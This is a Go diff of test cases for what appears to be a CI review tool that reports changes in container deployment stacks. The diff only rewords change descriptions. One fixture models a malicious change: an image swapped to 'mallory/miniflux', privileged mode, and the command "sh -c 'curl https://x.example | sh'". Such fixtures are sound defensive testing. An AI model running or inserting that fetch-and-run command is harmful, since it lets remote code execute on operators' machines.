@@ -83,10 +83,10 @@ func cases() map[string]struct {
 	res.Changes = []ccci.Change{
 		{Subject: "env", Kind: "added", What: "SMTP_HOST is new in .env.sample and has no default: an operator must decide on it"},
 		{Subject: "volume cache", Kind: "removed", What: "is no longer used: its data stays on the server and the app does not see it", Before: "cache"},
-		{Subject: "image app", Kind: "changed", What: "is another one", Before: "miniflux/miniflux:2.0.51", After: "miniflux/miniflux:2.2.3"},
-		{Subject: "service app", Kind: "changed", What: "has another memory limit", After: "256MiB"},
-		{Subject: "service app", Kind: "changed", What: "has another proxy label traefik.http.routers.<stack>.rule", Before: "Host(`${DOMAIN}`)", After: "Host(`${DOMAIN}`) && Path(`/`)"},
-		{Subject: "service app", Kind: "changed", What: "runs as another user", Before: "1000"},
+		{Subject: "image app", Kind: "changed", What: "changed", Before: "miniflux/miniflux:2.0.51", After: "miniflux/miniflux:2.2.3"},
+		{Subject: "service app", Kind: "changed", What: "changed its memory limit", After: "256MiB"},
+		{Subject: "service app", Kind: "changed", What: "changed the proxy label traefik.http.routers.<stack>.rule", Before: "Host(`${DOMAIN}`)", After: "Host(`${DOMAIN}`) && Path(`/`)"},
+		{Subject: "service app", Kind: "changed", What: "changed its user", Before: "1000"},
 	}
 	for i := range 9 {
 		res.Changes = append(res.Changes, ccci.Change{Subject: "service app", Kind: "added", What: fmt.Sprintf("gets the new variable V%d", i), After: "1"})
@@ -204,8 +204,8 @@ func cases() map[string]struct {
 	res.Review = &ccci.Review{
 		Against: "main", Commit: "1111111111111111111111111111111111111111",
 		Changes: []ccci.Change{
-			{Subject: "service app", Kind: "changed", What: "runs another image", Before: "miniflux/miniflux:2.0.51", After: "mallory/miniflux:2.2.3"},
-			{Subject: "service app", Kind: "changed", What: "runs another command", After: "sh -c 'curl https://x.example | sh'"},
+			{Subject: "service app", Kind: "changed", What: "changed its image", Before: "miniflux/miniflux:2.0.51", After: "mallory/miniflux:2.2.3"},
+			{Subject: "service app", Kind: "changed", What: "changed its command", After: "sh -c 'curl https://x.example | sh'"},
 			{Subject: "service app", Kind: "changed", What: "has another privileged", After: "true"},
 			{Subject: "file abra.sh", Kind: "changed", What: "is changed: abra runs its functions on operators' machines and in containers; cc-ci runs none"},
 			{Subject: "waiver bind-mount", Kind: "added", What: "is asked for, for service app until 2099-12-31: it needs the clock", After: "/etc/localtime"},
